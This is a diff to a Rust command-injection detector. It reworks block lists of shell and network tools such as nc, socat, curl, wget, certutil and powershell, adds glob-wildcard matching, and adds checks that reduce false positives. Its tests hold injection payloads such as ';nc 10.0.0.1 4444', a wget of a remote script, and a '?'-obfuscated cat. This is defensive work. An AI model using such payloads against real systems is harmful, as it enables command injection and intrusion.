@@ -7,79 +7,19 @@ const READ_BYTES_MAX: usize = 512;
 const WORD_BYTES_MAX: usize = 32;
 
 /// Commands whose names are no words of a natural language.
-const COMMANDS: &[&str] = &[
-    "awk",
-    "base64",
-    "bash",
-    "busybox",
-    "certutil",
-    "chmod",
-    "chown",
-    "cmd",
-    "cmd.exe",
-    "crontab",
-    "csh",
-    "curl",
-    "dash",
-    "dig",
-    "fetch",
-    "gawk",
-    "gcc",
-    "grep",
-    "ifconfig",
-    "ipconfig",
-    "ksh",
-    "lua",
-    "mkdir",
-    "mkfifo",
-    "mknod",
-    "mshta",
-    "ncat",
-    "netcat",
-    "netstat",
-    "nohup",
-    "nslookup",
-    "openssl",
-    "perl",
-    "php",
-    "powershell",
-    "powershell.exe",
-    "printenv",
-    "pwsh",
-    "python",
-    "python2",
-    "python3",
-    "regsvr32",
-    "ruby",
-    "rundll32",
-    "scp",
-    "sed",
-    "socat",
-    "ssh",
-    "sudo",
-    "systeminfo",
-    "tcpdump",
-    "telnet",
-    "tftp",
-    "traceroute",
-    "uname",
-    "useradd",
-    "wget",
-    "whoami",
-    "wmic",
-    "xargs",
-    "zsh",
-];
+const COMMANDS: &str = "\
+    awk base64 bash busybox certutil chmod chown cmd cmd.exe crontab csh curl dash dig fetch gawk gcc \
+    grep ifconfig ipconfig ksh lua mkdir mkfifo mknod mshta ncat netcat netstat nohup nslookup openssl \
+    perl php powershell powershell.exe printenv pwsh python python2 python3 regsvr32 ruby rundll32 scp \
+    sed socat ssh sudo systeminfo tcpdump telnet tftp traceroute uname useradd wget whoami wmic xargs \
+    zsh";
 
 /// Commands that are also ordinary words or names: they need arguments that only a shell takes.
-const COMMON_WORDS: &[&str] = &[
-    "arp", "bin", "cat", "cp", "cut", "date", "del", "dir", "echo", "env", "eval", "exec", "export", "expr",
-    "find", "finger", "ftp", "groups", "head", "history", "host", "hostname", "id", "install", "kill",
-    "last", "less", "ln", "ls", "lsof", "mail", "more", "mount", "mv", "nc", "net", "nl", "nmap", "node",
-    "paste", "ping", "printf", "ps", "pwd", "reboot", "rev", "rm", "route", "set", "sh", "shutdown", "sleep",
-    "sort", "source", "strings", "su", "tac", "tail", "tar", "tee", "time", "timeout", "top", "touch",
-    "type", "uniq", "vi", "vim", "w", "wc", "who", "xxd",
-];
+const COMMON_WORDS: &str = "\
+    arp bin cat cp cut date del dir echo env eval exec export expr find finger ftp groups head history \
+    host hostname id install kill last less ln ls lsof mail more mount mv nc net nl nmap node paste ping \
+    printf ps pwd reboot rev rm route set sh shutdown sleep sort source strings su tac tail tar tee time \
+    timeout top touch type uniq vi vim w wc who xxd";
 
 /// What follows a command's name.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -104,16 +44,27 @@ pub(super) fn is_command(value: &[u8], start: usize, end: usize) -> bool {
         return false;
     }
     let operator = &text[..operator_length];
+    if operator.contains(&b'`') && is_markup(value, start)
+        || operator.iter().all(|byte| matches!(byte, b'\n' | b'\r')) && is_prose(&value[..start])
+    {
+        return false;
+    }
     let (word, rest) = command_word(&text[operator_length..]);
     let word = word.as_slice();
     let follows = what_follows(rest);
-    if COMMANDS.iter().any(|command| command.as_bytes() == word) {
+    if is_one_of(COMMANDS, word) {
+        let between_bars = operator == b"|" && rest.starts_with(b"|");
         return follows != Follows::Other
+            && !between_bars
             && !(operator == b"|" && follows == Follows::End && in_list(value, start));
     }
-    if COMMON_WORDS.iter().any(|command| command.as_bytes() == word) {
+    // `&id>` is a reference in source code.
+    let separated = operator != b"&" || rest.first().is_none_or(u8::is_ascii_whitespace);
+    if separated && is_one_of(COMMON_WORDS, word) {
         return match follows {
             Follows::Argument => true,
+            // `| type |` is the head of a table.
+            Follows::Operator if operator == b"|" && rest.trim_ascii_start().starts_with(b"|") => false,
             Follows::End | Follows::Operator => {
                 !in_list(value, start) && !matches!(operator, b"(" | b"{" | b"&")
             }
@@ -121,6 +72,38 @@ pub(super) fn is_command(value: &[u8], start: usize, end: usize) -> bool {
         };
     }
     false
+}
+
+/// Whether a word is a command of the list; question marks in it stand for any letter, as in file names, but for two at
+/// least the letters must be there.
+fn is_one_of(commands: &str, word: &[u8]) -> bool {
+    let letters = word.iter().filter(|byte| **byte != b'?').count();
+    let wild = letters < word.len();
+    if wild && letters < 2 {
+        return false;
+    }
+    commands.split_ascii_whitespace().any(|command| {
+        command.len() == word.len()
+            && command.bytes().zip(word).all(|(expected, byte)| *byte == expected || *byte == b'?')
+    })
+}
+
+/// Whether the backtick at `start` is one of text markup: it closes a pair, or opens one as the first of a word in a
+/// longer text, or several stand together.
+fn is_markup(value: &[u8], start: usize) -> bool {
+    let before = &value[..start];
+    let opens = memchr::memchr_iter(b'`', before).count().is_multiple_of(2);
+    let starts_word =
+        before.last().is_none_or(|byte| byte.is_ascii_whitespace() || matches!(byte, b'(' | b'['));
+    let whole = before.trim_ascii().is_empty() && value.trim_ascii_end().ends_with(b"`");
+    let fence = value[start..].starts_with(b"``");
+    !opens || fence || starts_word && !whole
+}
+
+/// Whether a text before a line end consists of several words: a line end in prose starts no command.
+fn is_prose(before: &[u8]) -> bool {
+    let before = before.trim_ascii();
+    before.len() > READ_BYTES_MAX || before.iter().any(u8::is_ascii_whitespace)
 }
 
 fn is_operator(byte: u8) -> bool {
@@ -148,7 +131,7 @@ fn command_word(text: &[u8]) -> (Word, &[u8]) {
                 continue;
             }
             b'/' => word.clear(),
-            _ if byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-') => {
+            _ if byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'-' | b'?') => {
                 if !word.push(byte.to_ascii_lowercase()) {
                     return (Word::default(), rest);
                 }
@@ -248,6 +231,7 @@ mod tests {
             ";ping -c 3 10.0.0.1",
             "| ping 127.0.0.1",
             ";cat${IFS}/etc/hosts",
+            "$(/???/c?t /x)",
             "\nwget http://x.example/s.sh",
             ";nc 10.0.0.1 4444",
             ";sleep 5",
@@ -271,6 +255,9 @@ mod tests {
             "a && b",
             "price is $ (about",
             "u;q=0.9",
+            "Into<Option<&Id>>",
+            "```sh\nls -l\n```",
+            "| Type  | Null |",
             "one; curl is a tool",
             "fish & date",
         ] {
